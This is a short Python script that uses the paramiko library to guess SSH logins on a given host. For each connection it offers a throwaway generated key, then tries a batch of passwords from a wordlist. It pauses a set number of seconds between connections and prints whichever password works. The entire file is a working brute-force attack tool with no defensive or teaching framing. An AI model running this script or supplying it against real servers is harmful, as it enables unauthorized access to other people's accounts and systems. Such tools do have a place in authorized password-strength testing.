#!/usr/bin/python3
"""Guesses at SSH with paramiko: a key that fits nobody, then passwords, some to a connection.
usage: sshguess.py HOST USER WORDS PER_CONNECTION SECONDS"""
import socket, sys, time
import paramiko

host, user, words, per, gap = sys.argv[1], sys.argv[2], open(sys.argv[3]).read().split(), int(sys.argv[4]), float(sys.argv[5])
key = paramiko.RSAKey.generate(2048)
while words:
    try:
        t = paramiko.Transport(socket.create_connection((host, 22), timeout=5))
        t.start_client(timeout=5)
        tries = ["key"] + words[:per]
        words = words[per:]
        for w in tries:
            try:
                t.auth_publickey(user, key) if w == "key" else t.auth_password(user, w)
                print("found", w)
                sys.exit()
            except paramiko.AuthenticationException:
                pass
        t.close()
    except (OSError, EOFError, paramiko.SSHException) as e:
        print(e)
    time.sleep(gap)
